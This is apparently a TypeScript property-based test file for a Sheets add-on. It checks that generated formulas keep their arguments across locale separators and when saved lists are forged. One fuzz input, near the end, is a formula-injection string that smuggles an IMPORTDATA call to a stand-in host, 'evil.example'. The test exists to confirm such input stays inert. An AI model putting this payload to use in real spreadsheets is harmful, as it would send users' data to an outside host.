import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { inLocale, quoted, type Separator, separatorOf } from "../../src/core/formula";
import { filterForm } from "../../src/features/formulas/filter-form";
import { filterControls } from "../../src/lists/filters/filter-control";
import { howToGetValues, wayOut } from "../../src/features/formulas/filter-cells";
import { customFunctions } from "../../src/features/formulas/catalogue";
import { listFormula, listRequest } from "../../src/lists/list-draft";
import { draftOfList } from "../../sidebar/list/draft";
import { canonicalForm, hasDecimalComma } from "../../workbench/formulas/locale-form";
import { parseFormula, type FormulaNode } from "../../workbench/formulas/parser";
import { anyFilter } from "../lists/filters/any-filter";

const SEPARATORS: readonly Separator[] = [",", ";"];

/** Locales of File ▸ Settings, as Sheets names them. */
const LOCALES =
  "ar_EG az_AZ be_BY bg_BG bn_IN ca_ES cs_CZ cy_GB da_DK de_CH de_DE el_GR en_AU en_CA en_GB en_IE en_IN en_US es_AR es_BO es_CL es_CO es_EC es_ES es_MX es_PY es_UY es_VE fi_FI fil_PH fr_CA fr_FR gu_IN hi_IN hr_HR hu_HU hy_AM in_ID it_IT iw_IL ja_JP ka_GE kk_KZ kn_IN ko_KR lt_LT lv_LV ml_IN mn_MN mr_IN my_MM nb_NO nl_NL nn_NO pa_IN pl_PL pt_BR pt_PT ro_RO ru_RU sk_SK sl_SI sr_RS sv_SE ta_IN te_IN th_TH tr_TR uk_UA vi_VN zh_CN zh_HK zh_TW".split(
    " ",
  );

/** A formula as a spreadsheet reads it where it is typed. */
function readAs(formula: string, decimalComma: boolean): FormulaNode {
  return parseFormula(canonicalForm(formula, decimalComma).slice(1));
}

/** In every spreadsheet that takes this separator: a semicolon is taken by all of them. */
function readings(formula: string, separator: Separator): FormulaNode[] {
  return separator === "," ? [readAs(formula, false)] : [readAs(formula, false), readAs(formula, true)];
}

/** A call of texts, numbers and arguments that are left out. */
function callOf(name: string, ...args: readonly (string | number | null)[]): FormulaNode {
  const nodes = args.map((arg): FormulaNode =>
    arg === null ? { kind: "omitted" } : { kind: "literal", value: arg },
  );
  return { kind: "call", name, args: nodes };
}

const anyText = fc.oneof(
  fc.string({ unit: "binary", minLength: 1 }),
  fc.constantFrom('",1)', '"";A1', "=1+1", "'", "\n", "a;b,c\\d", "{1,2}", "⚠*", "1.5"),
);

describe("inLocale", () => {
  it.each([
    ['=F(A2,1.5,,"a, 1.5",TRUE)', '=F(A2;1,5;;"a, 1.5";TRUE)'],
    [`="say ""x, y"""&(2*'a,b'!B1)`, `="say ""x, y"""&(2*'a,b'!B1)`],
    ["=F()", "=F()"],
  ])("spells %s", (formula, semicolons) => {
    expect(inLocale(formula, ",")).toBe(formula);
    expect(inLocale(formula, ";")).toBe(semicolons);
  });

  it.each(SEPARATORS)("is parsed back to the same arguments, whatever texts they hold: %s", (separator) => {
    fc.assert(
      fc.property(anyText, fc.nat(), anyText, (one, number, other) => {
        const formula = inLocale(`=F(${quoted(one)},${number},,G(${quoted(other)}))`, separator);

        const { args } = callOf("F", one, number, null) as Extract<FormulaNode, { kind: "call" }>;
        for (const read of readings(formula, separator))
          expect(read).toEqual({ kind: "call", name: "F", args: [...args, callOf("G", other)] });
      }),
    );
  });
});

describe("separatorOf", () => {
  it("is one that every locale of Sheets takes, and the one that it shows", () => {
    for (const locale of LOCALES)
      expect([locale, separatorOf(locale)]).toEqual([locale, hasDecimalComma(locale) ? ";" : ","]);
    expect([separatorOf("de"), separatorOf("en"), separatorOf("xx_YY")]).toEqual([";", ",", ";"]);
  });
});

describe("Every place that makes a formula", () => {
  it.each(SEPARATORS)("keeps the arguments of a list: %s", (separator) => {
    const filters = fc.dictionary(
      anyText,
      fc.oneof(fc.array(anyText), fc.boolean(), fc.record({ gte: fc.integer() })),
      {
        minKeys: 1,
      },
    );
    fc.assert(
      fc.property(filters, fc.integer({ min: 1, max: 1_000 }), anyText, (set, limit, sortBy) => {
        const built = listFormula(set, limit, separator, { sortBy, sortOrder: "asc" });

        const wanted = callOf("COMPANY_LIST", JSON.stringify(set), limit, null, null, sortBy, "asc");
        for (const read of readings("formula" in built ? built.formula : "", separator))
          expect(read).toEqual(wanted);
      }),
    );
  });

  it.each(SEPARATORS)("keeps the arguments of the examples: %s", (separator) => {
    const examples = customFunctions.flatMap((each) => each.examples);

    expect(examples.length).toBeGreaterThan(15);
    for (const example of examples)
      for (const read of readings(inLocale(example, separator), separator))
        expect(read).toEqual(readAs(example, false));
  });

  it("makes the same filter form for both, which parses in every locale", () => {
    const controls = filterControls({ filters: [anyFilter({ filter: "a.b" })], groups: [], fetchedAt: "" });
    const made = (separator: Separator) =>
      filterForm(controls, () => [{ value: "x", label: "X" }], { list: 1.5, company: 0.2 })
        .formulas.flatMap(([, , cells]) => cells)
        .map((formula) => inLocale(formula, separator));

    const commas = made(",").map((formula) => readAs(formula, false));

    expect(commas.length).toBeGreaterThan(10);
    for (const decimalComma of [false, true])
      expect(made(";").map((formula) => readAs(formula, decimalComma))).toEqual(commas);
  });

  it.each(SEPARATORS)("keeps the arguments of a saved list that somebody has forged: %s", (separator) => {
    const [control] = filterControls({ filters: [anyFilter({ filter: "a.b" })], groups: [], fetchedAt: "" });
    const forged = { value: anyText, sortBy: anyText, sheetName: anyText };
    fc.assert(
      fc.property(fc.record(forged), ({ value, ...others }) => {
        const saved = { request: { filters: { "a.b": [value] }, limit: 5, ...others }, lastRun: null };
        const { request } = listRequest(
          [control!],
          draftOfList(saved, [control!], () => null),
        );
        fc.pre(request !== null);

        const { filters, limit, sortBy, sortOrder } = request;
        const built = listFormula(filters, limit, separator, request);

        const sorting = sortBy === undefined ? [] : [null, null, sortBy, sortOrder!];
        const wanted = callOf("COMPANY_LIST", JSON.stringify(filters), limit, ...sorting);
        for (const read of readings("formula" in built ? built.formula : "", separator))
          expect(read).toEqual(wanted);
      }),
    );
  });

  it("keeps a filter's key in the sentences that say where its values are", () => {
    const anyKey = fc.oneof(anyText, fc.constantFrom('x"),IMPORTDATA("//evil.example', "$&$1$`", 'a"b'));
    fc.assert(
      fc.property(anyKey, fc.constantFrom("list[string]", "an unknown shape"), (filter, value_shape) => {
        const served = anyFilter({ filter, value_shape, how_to_get_values: "from /some/list" });
        const [control] = filterControls({ filters: [served], groups: [], fetchedAt: "" });

        const shown = [wayOut(control!).replace(/ [a-z ]+\.$/, ""), howToGetValues(control!).slice(5)];

        for (const formula of shown)
          expect(readAs(formula, false)).toEqual(callOf("COMPANY_FILTERS", filter));
      }),
    );
  });
});
